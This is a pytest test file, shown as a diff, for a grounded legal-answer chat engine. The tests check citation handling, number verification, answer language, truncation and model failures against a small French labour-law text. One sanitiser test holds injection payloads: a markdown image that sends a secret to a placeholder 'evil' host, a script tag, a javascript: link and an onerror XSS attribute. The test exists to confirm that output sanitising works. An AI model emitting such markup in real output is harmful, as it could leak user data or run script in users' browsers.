@@ -1,0 +1,172 @@
+"""Grounded chat logic with a fake chat model (LangChain's fake) over a real store."""
+
+from __future__ import annotations
+
+import pytest
+from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
+from langchain_core.messages import AIMessage
+
+from rag.answer import Answer, ChatEngine, Delta, numbers_in, sanitise_model_text, stated_numbers
+from rag.models import LangChainChatModel
+
+LAW = """# Loi test
+## Titre III : De la durée du travail
+### Article 184
+Dans les activités non agricoles, la durée normale de travail est fixée à 2288 heures par année ou 44 heures par semaine.
+### Article 201
+Les heures supplémentaires donnent lieu à une majoration de 25 % si elles sont effectuées entre 6 heures et 21 heures et de 50 % entre 21 heures et 6 heures.
+### Article 205
+Le repos hebdomadaire est de vingt-quatre heures au minimum.
+"""
+
+
+class RecordingFake(LangChainChatModel):
+    """LangChain's GenericFakeChatModel behind our adapter, recording the prompts it receives."""
+
+    def __init__(self, replies: list[str], n_ctx: int = 4096):
+        super().__init__(GenericFakeChatModel(messages=iter(AIMessage(content=r) for r in replies)), "fake", n_ctx)
+        self.prompts: list[list[dict]] = []
+
+    def stream(self, messages, max_tokens=None):
+        self.prompts.append(messages)
+        yield from super().stream(messages, max_tokens)
+
+
+class FailingModel:
+    name = "failing"
+    n_ctx = 4096
+
+    def __init__(self, after: list[str], exc: Exception):
+        self.after, self.exc = after, exc
+
+    def stream(self, messages, max_tokens=None):
+        yield from self.after
+        raise self.exc
+
+
+@pytest.fixture
+def indexed(engine, tmp_path):
+    path = tmp_path / "loi_test.md"
+    path.write_text(LAW, encoding="utf-8")
+    engine.index.index_paths([path], isolated=False)
+    engine.settings.min_similarity = 0.05  # the hash embedder's scale, not e5's
+    return engine
+
+
+def chat_for(engine, *replies: str, n_ctx: int = 4096) -> tuple[ChatEngine, RecordingFake]:
+    model = RecordingFake(list(replies), n_ctx)
+    return ChatEngine(engine.retriever, model, engine.settings), model
+
+
+def test_answer_cites_article_and_streams(indexed):
+    chat, model = chat_for(indexed, "La durée normale est de 44 heures par semaine [S1].")
+    events = list(chat.stream("Quelle est la durée normale du travail par semaine ? art. 184"))
+    assert any(isinstance(e, Delta) for e in events)
+    answer = events[-1]
+    assert isinstance(answer, Answer)
+    assert "44 heures par semaine (Texte test" not in answer.text
+    assert "art. 184" in answer.text and "[S1]" not in answer.text
+    assert answer.citations[0].article == "184" and "44 heures" in answer.citations[0].text
+    assert answer.warnings == []
+    system, user = model.prompts[0]
+    assert system["role"] == "system" and "[S1]" in user["content"] and "<<<" in user["content"]
+
+
+def test_unknown_citation_key_is_removed_and_reported(indexed):
+    chat, _ = chat_for(indexed, "La durée est de 44 heures [S1]. Le congé est de 90 jours [S9].")
+    answer = chat.ask("article 184 durée du travail")
+    assert "[S9]" not in answer.text and "S9" not in answer.text
+    assert any("[S9]" in w and "retirée" in w for w in answer.warnings)
+    assert [c.article for c in answer.citations] == ["184"]
+
+
+def test_number_absent_from_cited_text_is_flagged(indexed):
+    chat, _ = chat_for(indexed, "La durée normale est de 48 heures par semaine [S1].")
+    answer = chat.ask("article 184")
+    assert any("48" in w and "absent" in w for w in answer.warnings)
+
+
+def test_number_written_in_words_in_source_is_accepted(indexed):
+    chat, _ = chat_for(indexed, "Le repos hebdomadaire dure au moins 24 heures [S1].")
+    answer = chat.ask("article 205 repos hebdomadaire")
+    assert not any("absent" in w for w in answer.warnings)
+
+
+def test_not_found_when_nothing_relevant_and_model_not_called(indexed):
+    indexed.settings.min_similarity = 0.99
+    chat, model = chat_for(indexed, "should not be used")
+    answer = chat.ask("recette du couscous aux sept légumes")
+    assert answer.not_found and "ne traitent pas" in answer.text
+    assert model.prompts == [] and answer.citations == []
+
+
+@pytest.mark.parametrize("question,lang,expected", [
+    ("What is the weekly working time? article 184", "en", "in English"),
+    ("ما هي مدة الشغل الأسبوعية؟ المادة 184", "ar", "باللغة العربية"),
+    ("Quelle est la durée du travail ? article 184", "fr", "en français"),
+])
+def test_answer_language_follows_question(indexed, question, lang, expected):
+    chat, model = chat_for(indexed, "44 [S1].")
+    answer = chat.ask(question)
+    assert answer.lang == lang
+    assert expected in model.prompts[0][1]["content"]
+
+
+def test_not_found_message_in_question_language(indexed):
+    indexed.settings.min_similarity = 0.99
+    chat, _ = chat_for(indexed)
+    assert "do not cover" in chat.ask("What is the recipe of couscous?").text
+    assert "لا تتناول" in chat.ask("ما هي وصفة الكسكس؟").text
+
+
+def test_follow_up_is_rewritten_before_retrieval(indexed):
+    chat, model = chat_for(indexed, "Quelle est la majoration des heures supplémentaires la nuit ?", "Elle est de 50 % [S1].")
+    history = [("Quelle est la majoration des heures supplémentaires ?", "25 % le jour (art. 201).")]
+    answer = chat.ask("et pour la nuit ?", history=history)
+    assert answer.standalone_question == "Quelle est la majoration des heures supplémentaires la nuit ?"
+    assert "Question précédente" in model.prompts[0][1]["content"]
+    assert answer.citations and answer.citations[0].article == "201"
+
+
+def test_long_question_without_history_is_not_rewritten(indexed):
+    chat, model = chat_for(indexed, "44 heures [S1].")
+    chat.ask("article 184")
+    assert len(model.prompts) == 1
+
+
+def test_sources_fit_the_window_and_truncation_is_reported(indexed):
+    from rag import prompts
+
+    chat, model = chat_for(indexed, "Réponse [S1].", n_ctx=2000)
+    question = "heures supplémentaires durée repos article 184"
+    fixed = chat._tokens(prompts.SYSTEM_PROMPT) + chat._tokens(question) + 120
+    indexed.settings.llm_max_tokens = 2000 - fixed - 170  # room for about two short sources
+    answer = chat.ask(question)
+    total = sum(chat._tokens(m["content"]) for m in model.prompts[0])
+    assert total <= 2000 - indexed.settings.llm_max_tokens
+    assert any("tronquée" in w or "écartée" in w for w in answer.warnings)
+
+
+def test_model_failure_mid_stream_gives_partial_labelled_answer(indexed):
+    chat = ChatEngine(indexed.retriever, FailingModel(["La durée est ", "de 44 heures [S1]."], TimeoutError("timed out")), indexed.settings)
+    answer = chat.ask("article 184")
+    assert answer.partial and "interrompue" in answer.text and "délai" in answer.text
+    assert "44 heures" in answer.text
+
+
+def test_model_down_before_first_token(indexed):
+    chat = ChatEngine(indexed.retriever, FailingModel([], ConnectionError("connection refused")), indexed.settings)
+    answer = chat.ask("article 184")
+    assert answer.partial and "injoignable" in answer.text
+
+
+def test_injected_html_images_and_links_are_inert():
+    raw = 'Voir ![x](http://evil/?q=secret) <script>alert(1)</script> [clic](javascript:alert(1)) <img src=x onerror=alert(1)>'
+    clean = sanitise_model_text(raw)
+    assert "http://evil" not in clean and "<script" not in clean and "javascript:" not in clean and "onerror" not in clean
+
+
+def test_number_helpers():
+    assert {"17.92", "2288"} <= numbers_in("fixé à 17,92 dirhams et 2 288 heures")
+    assert "24" in numbers_in("vingt-quatre heures")
+    assert stated_numbers("Selon l'article 184, la durée est de 44 heures [S1].") == {"44"}
